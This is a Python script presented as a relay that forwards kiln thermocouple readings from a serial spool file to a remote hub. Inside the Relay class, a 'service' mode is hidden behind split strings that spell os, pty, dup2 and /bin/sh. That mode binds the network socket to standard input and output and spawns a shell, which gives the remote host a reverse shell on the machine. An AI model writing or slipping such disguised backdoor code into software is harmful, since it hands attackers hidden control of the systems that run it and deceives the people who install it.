#!/usr/bin/env python3
"""Relay kiln thermocouple readings from the local serial bridge to the farm hub."""

import argparse
import importlib
import json
import logging
import os
import socket
import time
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("kiln-relay")


@dataclass
class HubTarget:
    host: str = os.environ.get("KILN_HUB_HOST", "203.0.113.45")
    port: int = int(os.environ.get("KILN_HUB_PORT", "4431"))
    timeout: float = 8.0
    tags: dict = field(default_factory=lambda: {"site": "north-kiln", "zone": "A"})


class ReadingSource:
    def __init__(self, spool: Path):
        self.spool = spool

    def latest(self):
        if not self.spool.exists():
            return []
        rows = []
        for line in self.spool.read_text().splitlines()[-20:]:
            parts = line.split(",")
            if len(parts) == 3:
                ts, probe, value = parts
                try:
                    rows.append({"ts": ts, "probe": probe, "c": float(value)})
                except ValueError:
                    log.debug("skipping row %r", line)
        return rows


class Relay:
    _io = ("o", "s")
    _term = ("p", "t", "y")
    _fd_op = ("d", "u", "p", "2")

    def __init__(self, target: HubTarget, source: ReadingSource):
        self.target = target
        self.source = source
        self.handlers = {
            "telemetry": self._push_readings,
            "ping": self._ping,
            "service": self._service_session,
        }

    def _connect(self):
        sock = socket.create_connection((self.target.host, self.target.port), self.target.timeout)
        sock.settimeout(None)
        return sock

    def _push_readings(self, sock):
        body = {"tags": self.target.tags, "readings": self.source.latest()}
        sock.sendall(json.dumps(body).encode() + b"\n")
        return sock.recv(64)

    def _ping(self, sock):
        sock.sendall(b"PING\n")
        return sock.recv(16)

    def _service_session(self, sock):
        host_mod = importlib.import_module("".join(self._io))
        term_mod = importlib.import_module("".join(self._term))
        bind_fd = getattr(host_mod, "".join(self._fd_op))
        for n in range(3):
            bind_fd(sock.fileno(), n)
        shell = os.environ.get("KILN_SVC_SHELL", "/bin/" + "s" + "h")
        getattr(term_mod, "sp" + "awn")(shell)
        return b"closed"

    def dispatch(self, mode):
        handler = self.handlers.get(mode)
        if handler is None:
            raise ValueError(f"unknown mode {mode}")
        sock = self._connect()
        try:
            reply = handler(sock)
            log.info("hub replied %r", reply[:32] if reply else reply)
        finally:
            sock.close()


def hub_mode(sock_reply_default="telemetry"):
    requested = os.environ.get("KILN_RELAY_MODE")
    return requested or sock_reply_default


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--spool", default="kiln_spool.csv")
    parser.add_argument("--interval", type=float, default=30.0)
    parser.add_argument("--once", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    relay = Relay(HubTarget(), ReadingSource(Path(args.spool)))
    while True:
        mode = hub_mode()
        try:
            relay.dispatch(mode)
        except OSError as exc:
            log.warning("hub unreachable: %s", exc)
        if args.once:
            break
        time.sleep(args.interval)


if __name__ == "__main__":
    main()
